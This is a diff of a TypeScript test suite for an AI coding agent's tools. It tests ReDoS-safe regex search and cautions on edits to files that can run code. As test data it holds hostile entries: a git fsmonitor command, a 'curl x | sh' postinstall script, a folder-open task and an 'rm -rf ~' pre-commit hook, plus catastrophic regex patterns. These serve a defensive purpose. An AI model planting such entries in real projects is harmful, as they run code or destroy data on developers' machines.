@@ -1,5 +1,6 @@
 import { strict as assert } from 'node:assert';
 import * as nodePath from 'node:path';
+import { Worker } from 'node:worker_threads';
 import { estimateTokens } from '../../../src/core/chat/contextBudget';
 import { changeTools, commandReport } from '../../../src/core/tools/changeTools';
 import { agentSystemPrompt, changeToolDefinitions, readToolDefinitions } from '../../../src/core/tools/definitions';
@@ -8,6 +9,7 @@ import { compactDiff, truncateResult } from '../../../src/core/tools/resultText'
 import { collectMatches, lineMatcher } from '../../../src/core/tools/textSearch';
 import { ToolError, ToolSession, type ChangeTool, type ReadTool, type ToolContext } from '../../../src/core/tools/toolTypes';
 import { checkArguments } from '../../../src/core/tools/validateArgs';
+import { sensitivePathReason } from '../../../src/core/tools/sensitivePaths';
 import { resolveWorkspacePath } from '../../../src/core/tools/workspacePaths';
 import type { TextMatch } from '../../../src/core/tools/workspacePort';
 import { MemoryPort } from './memoryPort';
@@ -120,6 +122,37 @@ describe('agent tools: text search and results', () => {
     assert.equal(collectMatches('c.bin', 'x\u0000x', lineMatcher({ text: 'x', isRegex: false }), 10, []), true);
   });
 
+  describe('a regular expression from the model', () => {
+    let worker: Worker | undefined;
+    afterEach(async () => {
+      await worker?.terminate();
+      worker = undefined;
+    });
+
+    it('runs in linear time: catastrophic patterns on long lines answer at once instead of freezing the extension host', async () => {
+      // In a worker, so that a backtracking engine (V8's, used before) hangs only the worker, and the
+      // test fails on mocha's timeout instead of blocking the run: ^(a+)+$ took 5 s at 28 characters,
+      // doubling with each one; these lines are thousands long.
+      const source = `
+        const { parentPort, workerData } = require('node:worker_threads');
+        const { lineMatcher } = require(workerData.module);
+        const long = 'a'.repeat(5000);
+        const results = [
+          lineMatcher({ text: '^(a+)+$', isRegex: true })(long + 'b'),
+          lineMatcher({ text: '(a|aa)*c', isRegex: true })(long),
+          lineMatcher({ text: '^(\\w+\\s?)*$', isRegex: true })('word '.repeat(2000) + '!'),
+          lineMatcher({ text: '^(a+)+$', isRegex: true })(long),
+        ];
+        parentPort.postMessage(results);`;
+      worker = new Worker(source, { eval: true, workerData: { module: nodePath.join(__dirname, '../../../src/core/tools/textSearch.js') } });
+      const results = await new Promise<unknown>((resolve, reject) => {
+        worker?.once('message', resolve);
+        worker?.once('error', reject);
+      });
+      assert.deepEqual(results, [false, false, false, true]);
+    });
+  });
+
   it('cuts a long result at a line and says how much was left out', () => {
     const text = Array.from({ length: 100 }, (_, index) => `line ${index}`).join('\n');
     assert.equal(truncateResult(text, 10_000), text);
@@ -158,7 +191,8 @@ describe('agent tools: reading functions', () => {
     assert.equal(await readTool(port, 'get_symbols').run({ path: 'src/deep/b.ts' }, context()), 'src/deep/b.ts:\n  function b (lines 1-1)');
     assert.equal(await readTool(port, 'get_selection').run({}, context()), 'Active editor: src/a.ts (typescript)\nSelection 1:1-1:5:\nthe \nOpen editors: src/a.ts');
     assert.match(await readTool(port, 'semantic_search').run({ query: 'export' }, context()), /^\[1\] src\/deep\/b\.ts:1-2\nexport function b/);
-    await rejectsWith(readTool(port, 'search_text').run({ query: '(', regex: true }, context()), 'invalid', /not a valid regular expression/);
+    await rejectsWith(readTool(port, 'search_text').run({ query: '(', regex: true }, context()), 'invalid', /not a regular expression this search supports/);
+    await rejectsWith(readTool(port, 'search_text').run({ query: '(a)\\1', regex: true }, context()), 'invalid', /RE2 syntax: no backreferences or lookaround/);
   });
 });
 
@@ -208,5 +242,42 @@ describe('agent tools: changing functions', () => {
     assert.equal(await run.apply(new AbortController().signal), `$ ${command}\nExit code 0.\nok`);
     assert.deepEqual(port.commands, [{ command, cwd: 'src' }]);
     assert.equal(commandReport('sleep 9', { exitCode: null, output: 'partial', timedOut: true, droppedChars: 1200 }, 5), '$ sleep 9\nStopped after 5 s (the time limit).\npartial\n[1,200 more characters of output were not kept.]');
+  });
+});
+
+describe('agent tools: files that can run code or change the editor', () => {
+  it('names git, editor, hook, dev container and package-script files, whatever the case or a multi-root prefix, and no ordinary file', () => {
+    const sensitive = [
+      '.git/config', '.git/hooks/pre-commit', 'app/.git/config', 'root-a/.GIT/hooks/post-checkout', '.git./config', '.gitmodules', '.gitattributes',
+      '.husky/pre-commit', '.githooks/pre-push', '.vscode/tasks.json', '.vscode/settings.json', '.vscode/launch.json', '.vscode/extensions.json',
+      'team.code-workspace', '.devcontainer/devcontainer.json', 'package.json', 'packages/web/package.json', '.npmrc', '.yarnrc.yml',
+      'pyproject.toml', 'setup.py', 'Makefile', 'Cargo.toml', 'build.rs', 'pom.xml', 'build.gradle.kts', 'Gemfile', 'composer.json', '.envrc',
+      '.pre-commit-config.yaml', 'src\\.vscode\\settings.json', '.git:stream/config',
+    ];
+    for (const path of sensitive) assert.ok(sensitivePathReason(path), path);
+    const ordinary = ['src/greeting.ts', 'README.md', 'docs/git.md', 'src/gitignore.ts', 'vscode/notes.md', 'package-lock.json.md', 'src/package.ts', 'my.git/file.ts', ''];
+    for (const path of ordinary) assert.equal(sensitivePathReason(path), undefined, path);
+    assert.match(sensitivePathReason('.git/config') ?? '', /fsmonitor/);
+    assert.match(sensitivePathReason('.vscode/tasks.json') ?? '', /tasks/);
+    assert.match(sensitivePathReason('package.json') ?? '', /scripts/);
+  });
+
+  it('edit_file and create_file carry the caution on the path and on where a link leads; ordinary files carry none', async () => {
+    const port = new MemoryPort({ '.git/config': '[core]\n', 'package.json': '{"scripts":{}}\n', 'src/a.ts': 'x\n', 'hooks/pre-commit': '#!/bin/sh\n' });
+    port.links.set('hooks', '.git/hooks');
+    const edit = changeTool(port, 'edit_file');
+    const create = changeTool(port, 'create_file');
+    const config = await edit.prepare({ path: '.git/config', old_text: '[core]', new_text: '[core]\n\tfsmonitor = "touch /tmp/pwned"' }, context());
+    assert.match(config.preview.kind === 'edit' ? config.preview.caution ?? '' : '', /fsmonitor/);
+    const manifest = await edit.prepare({ path: 'package.json', old_text: '{}', new_text: '{"postinstall":"curl x | sh"}' }, context());
+    assert.match(manifest.preview.kind === 'edit' ? manifest.preview.caution ?? '' : '', /scripts/);
+    const tasks = await create.prepare({ path: '.vscode/tasks.json', content: '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' }, context());
+    assert.match(tasks.preview.kind === 'create' ? tasks.preview.caution ?? '' : '', /tasks/);
+    const viaLink = await edit.prepare({ path: 'hooks/pre-commit', old_text: '#!/bin/sh', new_text: '#!/bin/sh\nrm -rf ~' }, context());
+    assert.match(viaLink.preview.kind === 'edit' ? viaLink.preview.caution ?? '' : '', /hooks/);
+    const ordinary = await edit.prepare({ path: 'src/a.ts', old_text: 'x', new_text: 'y' }, context());
+    assert.equal(ordinary.preview.kind === 'edit' ? ordinary.preview.caution : 'not an edit', undefined);
+    const created = await create.prepare({ path: 'src/b.ts', content: 'b' }, context());
+    assert.deepEqual(created.preview, { kind: 'create', path: 'src/b.ts', content: 'b' });
   });
 });
